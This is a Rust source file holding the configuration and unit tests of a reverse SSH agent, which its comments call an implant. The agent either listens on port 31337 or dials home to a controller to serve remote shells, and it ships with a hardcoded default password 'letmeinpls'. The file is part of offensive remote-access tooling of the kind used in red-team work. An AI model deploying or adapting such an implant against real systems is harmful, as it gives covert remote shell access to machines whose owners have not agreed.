//! Agent configuration
//!
//! The configuration is assembled once at startup from the command
//! line and the build-time defaults, and is read-only afterwards.
//! The build-time defaults can be overridden without touching the
//! source via environment variables at compile time
//! (`RSSH_PASSWORD=... cargo build --release`), which replaces the
//! ldflags mechanism of classic implant builds.

use crate::error::ConfigError;

/// Password accepted from incoming connections and offered first
/// when dialling home.
pub fn default_password() -> &'static str {
    option_env!("RSSH_PASSWORD").unwrap_or("letmeinpls")
}

/// Authorized public key line (`ssh-ed25519 AAAA... comment`) accepted
/// from incoming connections. Public-key auth is disabled when unset.
pub fn default_authorized_key() -> Option<&'static str> {
    option_env!("RSSH_AUTHORIZED_KEY").filter(|k| !k.is_empty())
}

/// Username used when dialling home without an explicit `user@` part.
pub fn default_user() -> &'static str {
    option_env!("RSSH_USER").unwrap_or("reverse")
}

/// Shell spawned for interactive sessions.
pub fn default_shell() -> &'static str {
    match option_env!("RSSH_SHELL") {
        Some(shell) => shell,
        None if cfg!(windows) => "powershell.exe",
        None => "/bin/bash",
    }
}

/// A parsed `[user@]host` reverse target
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// Username to authenticate as while dialling home
    pub user: String,
    /// Host (name or address, without port) to dial
    pub host: String,
}

impl Target {
    /// Parse a `[user@]host` string.
    ///
    /// A missing user part falls back to [`default_user`]. Parsing
    /// happens before any network activity, so a malformed target is
    /// reported as a local configuration error.
    pub fn parse(raw: &str) -> Result<Self, ConfigError> {
        let mut parts = raw.split('@');
        let target = match (parts.next(), parts.next(), parts.next()) {
            (Some(host), None, _) => Target {
                user: default_user().to_string(),
                host: host.to_string(),
            },
            (Some(user), Some(host), None) if !user.is_empty() => Target {
                user: user.to_string(),
                host: host.to_string(),
            },
            _ => return Err(ConfigError::InvalidTarget(raw.to_string())),
        };

        if target.host.is_empty() {
            return Err(ConfigError::EmptyHost(raw.to_string()));
        }
        Ok(target)
    }
}

/// Operating mode, fixed at startup
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Mode {
    /// Bind a local listener and accept incoming connections
    Listen,
    /// Dial out to a controller and serve sessions through the tunnel
    Reverse(Target),
}

/// Immutable agent configuration
///
/// Owned by the bootstrap layer; every component that needs settings
/// receives a shared reference. There are no ambient globals.
#[derive(Debug, Clone)]
pub struct AgentConfig {
    /// Listen vs reverse operation
    pub mode: Mode,
    /// Bind address in listen mode (`0.0.0.0:31337` by default)
    pub bind_addr: String,
    /// SSH port of the controller in reverse mode
    pub port: u16,
    /// Port to request a listener on at the controller after dialling
    pub remote_bind_port: u16,
    /// Shell for interactive sessions; on legacy Windows this is the
    /// path of the shell-host helper binary
    pub shell: String,
    /// Deny shell/exec/subsystem and local-forward requests
    pub deny_exec: bool,
    /// Emit log output; also permits the interactive password prompt
    /// during the reverse dial
    pub verbose: bool,
    /// Password accepted from peers and offered when dialling home
    pub password: String,
    /// Authorized public key line accepted from peers, if any
    pub authorized_key: Option<String>,
}

impl Default for AgentConfig {
    fn default() -> Self {
        Self {
            mode: Mode::Listen,
            bind_addr: "0.0.0.0:31337".to_string(),
            port: 31337,
            remote_bind_port: 8888,
            shell: default_shell().to_string(),
            deny_exec: false,
            verbose: false,
            password: default_password().to_string(),
            authorized_key: default_authorized_key().map(str::to_string),
        }
    }
}

impl AgentConfig {
    /// Address dialled in reverse mode (`host:port`)
    pub fn dial_addr(&self) -> Option<String> {
        match &self.mode {
            Mode::Reverse(target) => Some(format!("{}:{}", target.host, self.port)),
            Mode::Listen => None,
        }
    }

    /// Whether the reverse dial may prompt for a password on an
    /// authentication failure. A quiet agent must never block on
    /// stdin, so this is tied to verbose operation.
    pub fn interactive_dial(&self) -> bool {
        self.verbose
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_target_host_only() {
        let target = Target::parse("192.168.0.1").unwrap();
        assert_eq!(target.user, default_user());
        assert_eq!(target.host, "192.168.0.1");
    }

    #[test]
    fn test_target_user_and_host() {
        let target = Target::parse("kali@controller").unwrap();
        assert_eq!(target.user, "kali");
        assert_eq!(target.host, "controller");
    }

    #[test]
    fn test_target_rejects_double_at() {
        assert!(Target::parse("a@b@c").is_err());
    }

    #[test]
    fn test_target_rejects_empty_parts() {
        assert!(Target::parse("").is_err());
        assert!(Target::parse("user@").is_err());
        assert!(Target::parse("@host").is_err());
    }

    #[test]
    fn test_dial_addr() {
        let config = AgentConfig {
            mode: Mode::Reverse(Target::parse("kali@10.0.0.1").unwrap()),
            port: 22,
            ..Default::default()
        };
        assert_eq!(config.dial_addr().unwrap(), "10.0.0.1:22");
        assert_eq!(AgentConfig::default().dial_addr(), None);
    }
}
